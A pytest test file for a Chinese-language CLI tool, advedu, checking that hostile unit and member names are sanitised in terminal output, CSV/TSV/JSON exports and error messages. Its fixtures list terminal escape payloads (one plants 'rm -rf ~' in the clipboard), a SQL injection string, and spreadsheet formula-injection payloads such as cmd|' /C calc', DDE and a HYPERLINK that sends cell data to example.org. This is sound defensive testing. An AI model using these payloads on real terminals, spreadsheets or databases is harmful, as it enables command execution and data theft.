"""Hostile names on every screen, in every export and message: no control character gets out, nothing crashes."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sqlite3
import subprocess
import sys
import unicodedata
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from advedu.nouns.model import Author
from advedu.storage import connection, history
from tests.support import Answer, Cli, write_xlsx
from tests.torture.conftest import Counted
from tests.torture.support import POSIX, call, copied, csv_rows, ok, surroundings, times, words

NAMES = (
    "\x1b[31m红\x1b[0m\x1b[2J",
    "\x1b]52;c;cm0gLXJmIH4=\x07剪贴板",
    "\x1b]8;;https://example.org\x1b\\链接\x1b]8;;\x1b\\",
    "正常\u202e名倒\u2066着\u2069",
    "零\u200b宽\u200d字\u2060符\ufeff",
    "响铃\x07退格\x08\x08",
    "第一行\n第二行\r\n第三行\t列",
    "段\u2028落\u2029界\x85线",
    "\ufeff带签名",
    "[/x]收尾[/]",
    "[bold red]粗[/bold red][link=x]",
    ":smile: :warning: 表情",
    "e\u0301\u0301\u0301\u0338组\u20dd合",
    "👨\u200d👩\u200d👧 \U0001f1e8\U0001f1f3 🏳\ufe0f",
    "引号\"双'单`反\\斜%s {0} $HOME",
    "'; DROP TABLE unit; --",
    "长" * 3000,
    "שלום עליכם אבג",
    "\x9b31m\x9d52;c;x\x9c\x90q\x84\x7f",
)
# Characters that were taken from private and unassigned places, as old fonts do.
MORE = ("\ue000\uf8ff\U000f0000", "\u0378\ufdd0\U000e0001\U000e0041", "\u061c\u180e\u0600\xad", "\x01\x1f")

# A spreadsheet program would take each for a formula, or for a link.
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org?x="&A1,"点这里")',
    '=IMPORTXML("https://example.org","//a")',
    '=IMPORTDATA("https://example.org")',
    '=WEBSERVICE("https://example.org")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "'=1+1",
    "''@SUM(A1)",
)
FIRST = tuple("=+-@\t\r＝＋－＠")
_COLOUR = re.compile(r"\x1b\[[0-9;]*m")
AUTHOR = Author("\x1b[31m张\x1b]52;c;x\x07三", "台\u202e式", "advedu \x1b[2J\x9b1m")


def unseen(text: str) -> list[str]:
    """Return the characters that no screen and no file may get."""
    return sorted(
        {f"U+{ord(c):04X}" for c in text if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")}
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, filled_file: Path) -> Path:
    """A file in which every free text is hostile, also with what the program would have cleaned on its way in."""
    db = copied(filled_file, tmp_path_factory.mktemp("hostile"))
    names = (*NAMES, *MORE)
    with closing(connection.connect(db)) as file:
        with history.operation(file, AUTHOR, "2005-03-31", source=history.Source("\x1b[2J名\n册.csv", "ab12")):
            (top,) = file.execute("SELECT id FROM unit WHERE code = '330304-A'").fetchone()
            for number, name in enumerate(names):
                unit = file.execute(
                    "INSERT INTO unit (code, name, parent_id, kind, chief, phone, starts_on, shift_reason)"
                    " VALUES (?, ?, ?, 'branch', ?, ?, '2005-01-01', ?)",
                    (f"X{number:02}", name, top, name, name, name),
                ).lastrowid
                member = file.execute(
                    "INSERT INTO member (code, name, unit_id, leader, post, rank, phone) VALUES (?, ?, ?, 1, ?, ?, ?)",
                    (f"Y{number:02}", name, unit, name, name, name),
                ).lastrowid
                day = "2005-02-01"
                file.execute(
                    "INSERT INTO milestone_done SELECT ?, id, ?, ?, ?, ?, ?, ? FROM milestone WHERE code = 'M103'",
                    (unit, day, name, name, name, name, day),
                )
                file.execute(
                    "INSERT INTO milestone_exemption SELECT ?, id, ?, ?, ? FROM milestone WHERE code = 'M104'",
                    (unit, day, name, day),
                )
                file.execute("INSERT INTO task_done VALUES (?, 1, ?, ?, ?, ?)", (member, day, name, name, day))
                file.execute("INSERT INTO task_exemption VALUES (?, 2, ?, ?, ?)", (member, day, name, day))
                file.execute("INSERT INTO item_done VALUES (?, 1, ?, ?, ?)", (member, day, name, day))
            file.execute("UPDATE campaign SET name = ?, source = ?", (NAMES[0], NAMES[1]))
        # A second one changes them again: the log then shows old and new.
        with history.operation(file, AUTHOR, "2005-03-31"):
            file.execute(
                "UPDATE unit SET chief = 'x' || chief, close_reason = name, closed_on = '2005-03-30' WHERE code GLOB 'X1*'"
            )
            file.execute("UPDATE member SET leave_reason = name, left_on = '2005-03-30' WHERE code GLOB 'Y1*'")
    return db


def reading(db: Path) -> list[tuple[str, ...]]:
    """Every command that shows something."""
    with closing(sqlite3.connect(db)) as file:
        (last,) = file.execute("SELECT max(id) FROM operation").fetchone()
    return [
        ("status",),
        ("status", "X00"),
        ("status", "--by", "batch"),
        ("status", "--by", "sector"),
        ("status", "--depth", "5"),
        ("overdue",),
        ("log",),
        ("log", "X00"),
        ("log", "Y00"),
        ("log", "--operation", str(last)),
        ("log", "--operation", str(last - 1)),
        ("campaign", "show"),
        ("unit", "list"),
        ("unit", "tree"),
        *(("unit", "show", f"X{number:02}") for number in range(len(NAMES) + len(MORE))),
        ("member", "list"),
        ("member", "list", "--reveal"),
        *(("member", "show", f"Y{number:02}") for number in range(len(NAMES) + len(MORE))),
        ("nine", "status"),
        ("nine", "show", "Y00"),
        ("verify",),
    ]


def messages(db: Path) -> list[tuple[str | Path, ...]]:
    """Commands whose errors and receipts quote what they were given."""
    asked: list[tuple[str | Path, ...]] = []
    for name in (*NAMES, *MORE):
        short = name[:200]
        asked += [
            ("unit", "show", name),
            ("member", "show", name),
            ("log", name),
            ("status", name),
            ("milestone", "mark", "X00", name),
            ("milestone", "mark", "X00", "M104", "--on", name),
            ("milestone", "exempt", "X00", "M202", "--reason", name, "--dry-run"),
            ("unit", "edit", "X00", "--kind", name),
            ("unit", "edit", "X00", "--name", name, "--chief", name, "--dry-run"),
            ("unit", "add", name, "--name", name, "--parent", "X00", "--kind", "党支部", "--dry-run"),
            ("member", "add", "--name", name, "--unit", "X00", "--post", name, "--dry-run"),
            ("member", "edit", "Y00", "--id-number", name),
            ("member", "transfer", "Y00", name),
            ("verify", "--anchor", name),
            ("import", "members", short + ".csv"),
            ("import", name, "x.csv"),
            ("backup", Path("none") / short.replace("/", "_")),
            ("restore", short),
            (name,),
            ("unit", name),
            ("unit", "list", f"--{name}"),
            ("status", "--as-of", name),
            ("pin", name),
            ("init", "--campaign", name),
        ]
    return asked


def on_terminal(command: list[str], columns: int) -> str:
    """Run a command on a pseudo-terminal and return what it shows."""
    import fcntl
    import pty
    import struct
    import termios

    ours, theirs = pty.openpty()
    fcntl.ioctl(theirs, termios.TIOCSWINSZ, struct.pack("HHHH", 50, columns, 0, 0))
    environ = surroundings({"TERM": "xterm-256color"})
    child = subprocess.Popen(command, env=environ, stdin=theirs, stdout=theirs, stderr=theirs)
    os.close(theirs)
    shown = b""
    try:
        while piece := os.read(ours, 65536):
            shown += piece
    except OSError:
        # Linux says so when the last writer has gone.
        pass
    os.close(ours)
    assert child.wait() in (0, 1, 2), shown.decode()
    return shown.decode()


# ── screens ──


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_in_a_pipe(hostile: Path, counted: Counted, lang: str) -> None:
    shown = 0
    for argv in reading(hostile):
        answer = call(hostile, *argv, "--lang", lang)
        assert answer.code == 0, (argv, answer.err[:500])
        assert unseen(answer.out.replace("\n", "")) == [], argv
        assert unseen(answer.err.replace("\n", "")) == [], argv
        shown += 1
    counted(f"{len(NAMES)} hostile names, {shown} tables in a pipe ({lang}): 0 control characters, 0 crashes")


@pytest.mark.skipif(not POSIX or sys.platform == "darwin", reason="no such terminal here")
@pytest.mark.parametrize("columns", [80, 200][: times(2, 1)])
def test_on_a_terminal(hostile: Path, counted: Counted, columns: int) -> None:
    commands = [argv for argv in reading(hostile) if argv[1:2] != ("show",) or argv[-1] in ("X00", "Y00", "X16", "Y03")]
    coloured = 0
    for argv in commands:
        # A pager steers the terminal itself; what it is given is the same text.
        shown = on_terminal(words(hostile, "--no-pager", *argv), columns)
        assert "Traceback" not in shown
        bare = _COLOUR.sub("", shown)
        coloured += bare != shown
        assert unseen(bare.replace("\r\n", "")) == [], argv
    counted(
        f"{len(NAMES)} hostile names, {len(commands)} tables on a terminal of {columns}: 0 control characters, 0 crashes"
    )
    assert coloured > 0


# ── exports ──


@pytest.mark.parametrize("ending", ["csv", "tsv", "json", "txt"])
def test_in_exports(hostile: Path, folder: Path, counted: Counted, ending: str) -> None:
    exported = 0
    allowed = {"csv": "\r\n", "tsv": "\t\n"}.get(ending, "\n")
    for argv in reading(hostile):
        target = folder / f"out.{ending}"
        answer = call(hostile, *argv, "--output", target)
        assert answer.code == 0, (argv, answer.err[:500])
        text = target.read_bytes().decode("utf-8-sig")
        assert unseen(re.sub(f"[{allowed}]", "", text)) == [], argv
        if ending == "json":
            json.loads(text)
        elif ending != "txt":
            rows = list(csv.reader(io.StringIO(text, newline=""), delimiter="," if ending == "csv" else "\t"))
            body = [row for row in rows if not (row and row[0].startswith("# advedu"))]
            assert {len(row) for row in body} <= {len(rows[0])}, argv
        exported += 1
    counted(f"{len(NAMES)} hostile names, {exported} exports as {ending}: 0 control characters, 0 crashes")


def test_json_gives_every_name_back_as_it_is(hostile: Path) -> None:
    rows = {row["code"]: row["name"] for row in json.loads(ok(hostile, "unit", "list", "--format", "json"))["rows"]}
    for number, name in enumerate((*NAMES, *MORE)):
        assert rows[f"X{number:02}"] == name


# ── messages ──


@pytest.mark.long
def test_in_messages(hostile: Path, folder: Path, counted: Counted, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(folder)
    asked = messages(hostile)
    faults: dict[str, list[str]] = {}
    for argv in asked:
        for lang in ("zh", "en")[: times(2, 1)]:
            answer: Answer = call(hostile, *argv, "--lang", lang)
            assert answer.code in (0, 1, 2), (argv, answer)
            found = unseen((answer.err + answer.out).replace("\n", ""))
            if answer.code and answer.err.count("\n") != 1:
                found.append(f"{answer.err.count(chr(10))} lines")
            if found:
                faults.setdefault(ascii(answer.err[:80]), []).extend(found)
    counted(
        f"{len(NAMES)} hostile names, {times(2, 1) * len(asked)} messages that quote them: {len(faults)} with control characters, "
        f"0 crashes"
    )
    assert faults == {}


@pytest.mark.parametrize("kind", ["units", "members", "milestones", "tasks", "nine-ones"])
@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_in_the_errors_of_imports(hostile: Path, folder: Path, kind: str, ending: str) -> None:
    """Every cell, every heading and the name of the file itself."""
    headings = {
        "units": ("编码", "名称", "上级编码", "类型", "领域", "批次", "启动日期", "上报党员数"),
        "members": ("党员编号", "姓名", "所在党组织", "身份证号", "出生日期", "领导干部", "人员类别", "党员类别"),
        "milestones": ("单位", "环节", "完成日期", "组长"),
        "tasks": ("党员", "单位", "任务", "完成日期"),
        "nine-ones": ("党员", "单位", "项目", "完成日期"),
    }[kind]
    # A workbook cannot hold most control characters; it writes some of them as _x001B_, which readers turn back.
    names = [name if ending == "csv" else re.sub("[\x00-\x08\x0b-\x1f]", "_x001B_", name) for name in NAMES]
    rows: list[list[Any]] = [[*headings, *names[:3]], *([name] * len(headings) for name in names)]
    path = folder / f"名\u202e册\x1b[2J.{ending}"
    if ending == "xlsx":
        write_xlsx(path, {"表\u202e1": rows})
    else:
        with path.open("w", encoding="utf-8", newline="") as file:
            csv.writer(file).writerows(rows)
    for extra in ((), ("--format", "csv"), ("--format", "json"), ("--partial", "--dry-run")):
        answer = call(hostile, "import", kind, path, *extra)
        assert answer.code in (1, 3), answer
        kept = "\r\n" if "csv" in extra else "\n"
        assert unseen(re.sub(f"[{kept}]", "", answer.out)) == []
        assert unseen(answer.err.replace("\n", "")) == []


def test_a_hostile_path_of_the_file_itself(hostile: Path, folder: Path) -> None:
    for name in ("\x1b[2J.db", "\u202ebd.x", "[bold]x.db", "'; --.db", "%s{0}.db", "名\n册.db"):
        db = copied(hostile, folder, name)
        for argv in (("unit", "show", "X00"), ("unit", "show", "nobody"), ("backup", db.with_name("b" + name))):
            answer = call(db, *argv)
            assert unseen((answer.out + answer.err).replace("\n", "")) == [], (name, argv)
        missing = call(db.with_name("no" + name), "status")
        assert missing.code == 1
        assert unseen(missing.err[:-1]) == []


# ── formulas ──


def test_formulas_leave_as_text_and_come_back_as_they_were(filled: Cli, counted: Counted) -> None:
    assert len(FORMULAS) == 22
    for number, payload in enumerate(FORMULAS):
        filled.ok(
            "unit",
            "add",
            f"F{number:02}",
            "--name",
            payload,
            "--parent",
            "330304-A",
            "--kind",
            "党支部",
            "--chief",
            payload,
        )
        filled.ok("member", "add", f"G{number:02}", "--name", payload, "--unit", f"F{number:02}", "--post", payload)
    stored = dict(filled.query("SELECT code, name FROM member WHERE code GLOB 'G*'"))
    # White space around a name is no part of it; nothing else is lost.
    assert stored == {f"G{number:02}": payload.strip() for number, payload in enumerate(FORMULAS)}
    cells = formulas = 0
    for noun in ("unit", "member"):
        for ending, separator in (("csv", ","), ("tsv", "\t")):
            path = filled.folder / f"{noun}.{ending}"
            filled.ok(noun, "list", "--output", path)
            for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), delimiter=separator):
                formulas += sum(cell.startswith(FIRST) for cell in row)
                cells += sum(cell.lstrip("'").startswith(FIRST) for cell in row)
            # The same file again changes nothing.
            again = filled.json("import", f"{noun}s", path)
            assert (again["inserted"], again["updated"], again["errors"]) == (0, 0, []), again
    counted(f"22 formula payloads in {cells} cells of csv and tsv: {formulas} formulas")
    assert formulas == 0
    assert cells >= 22 * 2 * 4
    names = {row["code"]: row["name"] for row in csv_rows((filled.folder / "member.csv").read_text("utf-8-sig"))}
    assert all(names[code] == f"'{name}" for code, name in stored.items())


def test_formulas_come_into_another_file_as_they_were(filled: Cli, folder: Path) -> None:
    for number, payload in enumerate(FORMULAS):
        filled.ok("member", "add", f"G{number:02}", "--name", payload, "--unit", "330304-A", "--post", payload)
    wanted = filled.query("SELECT code, name, post FROM member WHERE code GLOB 'G*' ORDER BY code")
    for ending in ("csv", "tsv"):
        filled.ok("member", "list", "--output", folder / f"members.{ending}")
        other = Cli(folder / ending)
        other.folder.mkdir()
        other.ok("init")
        filled.ok("unit", "list", "--output", folder / "units.csv")
        other.ok("import", "units", folder / "units.csv")
        other.ok("import", "members", folder / f"members.{ending}")
        assert other.query("SELECT code, name, post FROM member WHERE code GLOB 'G*' ORDER BY code") == wanted
